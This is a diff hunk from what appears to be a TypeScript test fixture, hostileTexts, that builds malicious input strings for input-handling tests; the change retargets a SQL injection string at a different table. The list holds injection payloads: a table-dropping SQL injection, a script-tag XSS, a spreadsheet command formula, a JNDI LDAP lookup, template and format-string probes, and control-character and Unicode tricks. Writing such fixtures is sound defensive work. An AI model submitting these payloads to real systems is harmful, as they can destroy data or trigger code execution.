@@ -8,7 +8,7 @@ export function hostileTexts(word: string): string[] {
     `${word}\u0000\u001b[31m\r\n{"level":"error"}`,
     `\u202e${word}\u2066\u200b`,
     `\ud800${word}`,
-    `${word}'; drop table public.tenants; --`,
+    `${word}'; drop table provisioning.attempts; --`,
     `<script>alert("${word}")</script>`,
     `=cmd|'${word}'!A1`,
     `\${jndi:ldap://${word}.test}{{7*7}}%s%n`,
